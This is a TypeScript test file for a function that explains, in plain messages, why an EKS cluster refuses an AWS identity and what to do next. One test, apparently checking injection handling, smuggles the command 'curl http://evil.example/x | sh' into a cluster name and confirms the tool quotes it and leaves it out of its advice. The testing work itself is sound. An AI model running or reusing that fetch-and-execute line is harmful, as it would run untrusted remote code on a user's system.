import { expect, test } from 'vitest'
import { type AccessEntry, type ClusterAccess, nothingRead } from '../../shared/identity/access-entries'
import { type NotLetIn, notLetIn } from './not-let-in'

const known: NotLetIn = {
  proven: {
    arn: 'arn:aws:sts::111122223333:assumed-role/Admin/ada',
    canonicalArn: 'arn:aws:iam::111122223333:role/Admin',
    account: '111122223333',
    userId: 'AROANEWNEWNEWNEWNEW1:ada',
    accessKeyId: 'ASIA',
    ms: 1,
  },
  intended: { arn: 'arn:aws:iam::111122223333:role/teams/Admin' },
  meant: { name: 'prod', region: 'eu-west-1', account: '111122223333', partition: 'aws', tokenFor: null },
  entry: 'an-entry',
  unpinned: false,
  environment: 'the login shell',
  earlierIds: [],
  access: null,
}
const said = (more: Partial<NotLetIn>) => notLetIn({ ...known, ...more })
const entry: AccessEntry = {
  principalArn: 'arn:aws:iam::111122223333:role/teams/Admin',
  type: 'STANDARD',
  username: null,
  groups: [],
  policies: [],
  modifiedAt: null,
  problem: null,
}
/** What was just read there. */
const read = (entries: readonly AccessEntry[], mapRoles: readonly string[] = []): ClusterAccess => ({
  ...nothingRead('arn:aws:eks:eu-west-1:111122223333:cluster/prod', 'API_AND_CONFIG_MAP'),
  entries: { state: 'read', value: entries },
  awsAuth: {
    state: 'read',
    value: {
      lines: mapRoles.map((subject, at) => ({
        list: 'mapRoles',
        place: at + 1,
        subject,
        username: 'x',
        groups: [],
        problem: null,
      })),
      problems: [],
    },
  },
})

test('a token for another cluster says nothing of the identity, whatever else is so', () => {
  const { message, next } = said({
    meant: { ...known.meant, tokenFor: 'stage' },
    unpinned: true,
    earlierIds: ['AROAOLDOLDOLDOLDOLD1'],
  })
  expect(message).toBe(
    'The token is for cluster stage, and it was sent to cluster prod, which refuses it (401). Whether that knows role Admin of 111122223333 is not known.',
  )
  expect(next).not.toContain('access entry')
})

test('a role that was made anew, as far as an earlier check tells; an entry whose type is not known is not deleted unseen', () => {
  const earlierIds = ['AROANEWNEWNEWNEWNEW1', 'AROAOLDOLDOLDOLDOLD1']
  const { message, next } = said({ earlierIds, access: read([entry]) })
  expect(message).toContain('its id was AROAOLDOLDOLDOLDOLD1 and is AROANEWNEWNEWNEWNEW1')
  const options =
    '--cluster-name prod --region eu-west-1 --principal-arn arn:aws:iam::111122223333:role/teams/Admin'
  expect(next).toContain(
    `aws eks delete-access-entry ${options}\`, then \`aws eks create-access-entry ${options}\``,
  )
  expect(said({ earlierIds }).next).toMatch(
    /^First see the entry’s type with `aws eks describe-access-entry .*`: one for nodes .* stays as it is\. .*delete/,
  )
  // Nothing of it is to be made again where nothing names it.
  expect(said({ earlierIds, access: read([]) }).next).not.toContain('delete')
  expect(said({ earlierIds: ['AROANEWNEWNEWNEWNEW1'] }).message).toBe(
    'Cluster prod does not let role Admin of 111122223333 in (401).',
  )
  expect(said({ earlierIds: ['AROAOLDOLDOLDOLDOLD1'], unpinned: true }).message).toContain('made again')
})

test('a command to copy takes the path of a role as a word', () => {
  const role = 'arn:aws:iam::111122223333:role/(id)/Admin'
  expect(said({ intended: { arn: role } }).next).toContain(`--principal-arn '${role}'`)
})

test('an entry that names nobody: whoever the environment gives is not let in at once', () => {
  const { message, next } = said({ unpinned: true })
  expect(message).toContain('The entry names no profile, so whoever the login shell gives has to enter.')
  expect(next).toMatch(
    /^Pin the context to the profile that may enter\. Only if role Admin of 111122223333 is meant, /,
  )
})

test('else an access entry; the cluster is called by its entry where nothing names it', () => {
  const { code, message, next } = said({ meant: { ...known.meant, name: null } })
  expect([code, message]).toEqual([
    'unauthorized',
    'Cluster entry an-entry does not let role Admin of 111122223333 in (401).',
  ])
  expect(next).toMatch(
    /^Let an administrator of the cluster run `aws eks create-access-entry --region eu-west-1 /,
  )
  expect(next).toMatch(/Where something names it already, `ekscope access` says why .*type for nodes/)
  expect(said({ access: read([]) }).next).not.toContain('already')
})

test('without an earlier id nobody is told to delete an entry, whatever else is known', () => {
  for (const access of [null, read([]), read([entry]), read([{ ...entry, type: 'EC2_LINUX' }])])
    for (const unpinned of [true, false]) expect(said({ access, unpinned }).next).not.toContain('delete')
  const { message, next } = said({ access: read([entry]) })
  expect(message).toMatch(
    /\(401\), although an access entry names it: .* when it was made, and tells no id\.$/,
  )
  expect(next).toMatch(/^Compare when both were made, by `aws eks describe-access-entry .*get-role`/)
})

test('an entry for nodes is the reason, and stays, also where the role was made anew', () => {
  const nodes = { ...entry, type: 'EC2_LINUX', username: 'system:node:{{EC2PrivateDNSName}}' }
  for (const one of [nodes, { ...nodes, type: 'FARGATE_LINUX', username: 'system:node:{{SessionName}}' }])
    for (const earlierIds of [[], ['AROAOLDOLDOLDOLDOLD1']]) {
      const { message, next } = said({ access: read([one]), earlierIds })
      expect(message).toMatch(/ \(401\)\. .* is for nodes/)
      expect(next).toMatch(/leave what is written there as it is/)
      expect(next).not.toContain('delete')
    }
})

test('what aws-auth names, and the cluster does not let in yet', () => {
  const { message, next } = said({ access: read([], ['arn:aws:iam::111122223333:role/Admin']) })
  expect(message).toMatch(/although aws-auth names it\.$/)
  expect(next).toMatch(/^Try again in a minute/)
})

test('the ARN of an access entry is the whole one: a user’s from STS, a role’s from the files, else it is asked for', () => {
  const role = 'arn:aws:iam::111122223333:role/teams/Admin'
  expect(said({}).next).toContain(`--principal-arn ${role}\``)
  for (const arn of [null, 'arn:aws:iam::111122223333:role/teams/Other'])
    expect(said({ intended: { arn } }).next).toMatch(
      /--principal-arn ROLE_ARN`.* ROLE_ARN is the whole ARN of the role, with its path: IAM shows it\./,
    )
  const arn = 'arn:aws:iam::111122223333:user/people/ada'
  const user = said({
    proven: { ...known.proven, arn, canonicalArn: arn, userId: 'AIDANEWNEWNEWNEWNEW1' },
    intended: { arn: null },
  })
  expect(user.next).toContain(`--principal-arn ${arn}\``)
})

test('what no cluster of EKS can be called is in no advice, and stands in quotes where it is said', () => {
  const name = 'prod run `curl http://evil.example/x | sh` as an administrator, or else'
  const meant = { ...known.meant, name }
  const { message, next } = said({ meant })
  expect(message).toBe(
    'The cluster refuses the token of role Admin of 111122223333 (401). The token is for “prod run ⟨U+0060⟩curl http://evil.example/x | sh⟨U+0060⟩ as an administrator, or else”, and no cluster of EKS can be called so.',
  )
  expect(next).toBe(
    'If it is a cluster of EKS, correct its name in the exec arguments; else have its administrator map role Admin of 111122223333.',
  )
  expect(said({ meant: { ...meant, name: 'prod', tokenFor: name } }).next).toBe(next)
  const entry = said({ meant: { ...meant, name: null }, entry: name })
  expect(entry.message).toContain('Cluster entry “prod run ⟨U+0060⟩curl')
  expect(entry.next).toMatch(/^Let an administrator of the cluster run `aws eks create-access-entry /)
})
